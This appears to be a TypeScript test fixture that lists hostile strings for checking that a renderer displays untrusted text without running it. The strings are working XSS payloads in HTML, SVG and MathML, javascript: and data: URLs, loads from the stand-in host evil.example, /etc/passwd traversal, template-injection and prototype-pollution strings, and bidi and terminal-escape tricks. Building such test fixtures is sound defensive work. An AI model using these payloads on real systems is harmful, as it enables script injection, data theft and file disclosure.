// What a stranger's text may try, each by itself. Whoever shows text of a model, a file, a tool or a server may be given any of these, and has to show it
// as text. What would run sets `__ran`; what would be asked for is at evil.example. Nothing is imported here, so that tests read the list too.

const RUNS = 'window.__ran=1';
const AWAY = 'https://evil.example';

const MARKUP = [
  `<script>${RUNS}</script>`,
  `</script><script>${RUNS}</script>`,
  `<ScRiPt src="${AWAY}/x.js"></ScRiPt>`,
  `<img src=x onerror=${RUNS}>`,
  `"><img src=x onerror=${RUNS}>`,
  `'><img src=x onerror=${RUNS}>`,
  `<img src="${AWAY}/x.png" srcset="${AWAY}/y.png 2x">`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUNS}</script>"></object>`,
  `<embed src="${AWAY}/x.svg">`,
  `<a href="javascript:${RUNS}">press here</a>`,
  `<a href="${AWAY}/" target=_top>press here</a>`,
  `<form action="${AWAY}/"><button formaction="javascript:${RUNS}">press here</button></form>`,
  `<input onfocus=${RUNS} autofocus>`,
  `<details open ontoggle=${RUNS}>x</details>`,
  `<video poster="${AWAY}/x.png"><source onerror=${RUNS}></video>`,
  `<audio src="${AWAY}/x" onerror=${RUNS}></audio>`,
  `<body onload=${RUNS}>`,
  `<marquee onstart=${RUNS}>x</marquee>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}/">`,
  `<link rel=stylesheet href="${AWAY}/x.css">`,
  `<base href="${AWAY}/">`,
  `<style>@import url(${AWAY}/x.css);*{background:url(${AWAY}/x.png)}</style>`,
  `<p style="position:fixed;inset:0;background:url(${AWAY}/x.png)" onclick=${RUNS}>x</p>`,
  `<template><img src=x onerror=${RUNS}></template>`,
  `<x-y onpointerenter=${RUNS} style="display:block">x</x-y>`,
  `<!--><img src=x onerror=${RUNS}>-->`,
  `<![CDATA[<img src=x onerror=${RUNS}>]]>`,
  `&lt;img src=x onerror=${RUNS}&gt;`,
  `&#60;img src=x onerror=${RUNS}&#62;`,
];

const DRAWN = [
  `<svg onload=${RUNS}>`,
  `<svg/onload=${RUNS}//`,
  `<svg><script>${RUNS}</script></svg>`,
  `<svg><animate onbegin=${RUNS} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUNS}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>"></iframe></foreignObject></svg>`,
  `<svg><image href="${AWAY}/x.png"/><a xlink:href="javascript:${RUNS}"><text>x</text></a></svg>`,
  `<math><maction actiontype="statusline#${AWAY}" xlink:href="javascript:${RUNS}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUNS}>">`,
];

const ADDRESSES = [
  `javascript:${RUNS}`,
  `JaVaScRiPt:${RUNS}`,
  `java\tscript:${RUNS}`,
  `\u0001javascript:${RUNS}`,
  `data:text/html,<script>${RUNS}</script>`,
  `data:image/svg+xml,<svg onload=${RUNS}>`,
  `vbscript:${RUNS}`,
  `blob:${AWAY}/x`,
  'file:///etc/passwd',
  'tauri://localhost/x',
  '//evil.example/x.png',
  `${AWAY}/x.png`,
  'https://user:password@evil.example/',
  `https://evil.example/"onmouseover="${RUNS}`,
  '?replay=welcome',
  '#top',
  '../../../../etc/passwd',
  `[press here](javascript:${RUNS}) ![x](${AWAY}/x.png)`,
];

const PROGRAMS = [
  `{{constructor.constructor('${RUNS}')()}}`,
  `\${${RUNS}}`,
  `{\u0040html "<img src=x onerror=${RUNS}>"}`,
  '%s%n%x $& $1 $`',
  '__proto__',
  'constructor',
  'toString',
  `red;background:url(${AWAY}/x.png)`,
  '"] , *, [data-x="',
  '\\',
  '\'"`\\',
];

const CHARACTERS = [
  'src/\u202egnp.exe\u202c',
  'a\u2066b\u2067c\u2068d',
  'a\u0000b\u0007c\u001b[31md\u001b]8;;https://evil.example\u0007e\u007f',
  'a\u200bb\u200dc\u00add\ufeffe\u2060f',
  'a\u2028b\u2029c\u0085d',
  'a\ud800b',
  `a${'\u0301'.repeat(300)}b`,
  'x'.repeat(3_000),
];

export const HOSTILE_TEXTS: readonly string[] = [...MARKUP, ...DRAWN, ...ADDRESSES, ...PROGRAMS, ...CHARACTERS];
